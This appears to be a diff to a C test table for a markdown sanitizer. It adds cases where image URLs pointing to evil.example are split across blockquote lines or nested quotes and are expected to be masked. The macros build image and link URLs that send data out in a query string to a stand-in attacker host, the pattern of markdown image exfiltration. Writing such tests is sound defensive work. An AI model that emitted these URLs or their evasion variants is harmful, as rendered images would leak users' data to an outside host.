@@ -7,6 +7,7 @@
 #define EVIL "https://evil.example/"
 #define IMAGE "![x](" EVIL "p.png?q=" DATA ")"
 #define LINK "[x](" EVIL "?q=" DATA ")"
+#define DEEP "> > > > > > > > > > > > "
 #define ESC "\\u001b[2J" /* as JSON has it */
 #define TAGS "\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7"
 
@@ -260,6 +261,17 @@ static const row rows[] = {
      "x = [\"a\", \"https://evil.example/l.png\"]; import \"https://evil.example/l.png\"; case x: //so\n  "
      "call(\"b\", 'https://evil.example/l.png');\n",
      0, 0, SP_OK},
+    {"a quotation that parts an image", LISTS_IMAGES, "> ![a](\\n> https://evil.example/l.png) so",
+     "> ![a](\n> [masked: unlisted-image]) so", 1, 1, SP_OK},
+    {"a quotation that parts an image, slashes", LISTS_IMAGES, "> ![a](\\n> //evil.example/l.png) so",
+     "> ![a](\n> [masked: unlisted-image]) so", 1, 1, SP_OK},
+    {"a definition in a quotation", LISTS_IMAGES, "> ![a]\\n>\\n>> [a]:\\n>> https://evil.example/l.png\\n",
+     "> ![a]\n>\n>> [a]:\n>> [masked: unlisted-image]\n", 1, 1, SP_OK},
+    {"a definition in a quotation, slashes", LISTS_IMAGES,
+     "> ![a]\\n>\\n>> [a]:\\n>> //evil.example/l.png\\n", "> ![a]\n>\n>> [a]:\n>> [masked: unlisted-image]\n",
+     1, 1, SP_OK},
+    {"a quotation that goes on", LISTS_IMAGES, "![a](\\n" DEEP DEEP DEEP DEEP DEEP "//evil.example/l.png) so",
+     "![a](\n" DEEP DEEP DEEP DEEP DEEP "[masked: unlisted-image]) so", 1, 1, SP_OK},
     {"links where images are listed", LISTS_IMAGES, "so [x](" EVIL ") and " EVIL " and <a href='" EVIL "'>",
      "so [x](" EVIL ") and " EVIL " and <a href='" EVIL "'>", 0, 0, SP_OK},
     {"images where links are listed", LISTS_LINKS, "so ![x](" EVIL "l.png)", "so ![x](" EVIL "l.png)", 0, 0,
